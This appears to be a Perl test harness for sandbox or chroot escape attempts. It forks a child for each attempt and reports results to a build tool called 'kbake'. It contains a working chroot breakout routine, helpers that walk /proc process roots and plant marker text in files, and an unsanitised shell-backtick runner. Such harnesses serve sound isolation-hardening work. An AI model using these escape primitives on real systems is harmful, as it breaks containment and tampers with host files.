#!/usr/bin/perl
# A maintainer script that tries each row of a table in a process of its own, and prints the result. `%host` and `%rows` come
# before this text: paths on the host, and the attempts.

# Every result is printed for kbake, which shows lines with this prefix.
sub told { my ($text) = @_; $text =~ s/\s+/ /g; print STDERR "kbake: $text\n" }
sub slurp { my ($path) = @_; open my $file, '<', $path or return ''; local $/; my $text = <$file>; return $text // '' }
sub append { my ($path) = @_; open my $file, '>>', $path or return; print $file "planted\n"; close $file }
# All processes' roots and folders, as far as they can be followed.
sub roots { return map { ("$_/root", "$_/cwd") } glob '/proc/[0-9]*' }
# Out of the root of chroot(2), as root of whatever is around it.
sub out { mkdir '/tmp/below'; chdir '/'; chroot '/tmp/below'; chdir '..' for 1 .. 50; chroot '.' }
sub run { my $words = join ' ', @_; return `$words 2>/dev/null` }

for my $name (sort keys %rows) {
    my $child = fork // die "fork: $!\n";
    if (!$child) {
        alarm 20;
        eval { $rows{$name}->() };
        exit 0;
    }
    waitpid $child, 0;
    told("tried $name");
}
told('own ' . slurp('/usr/share/own'));
# The rest of the installation is of no interest.
exit 3;
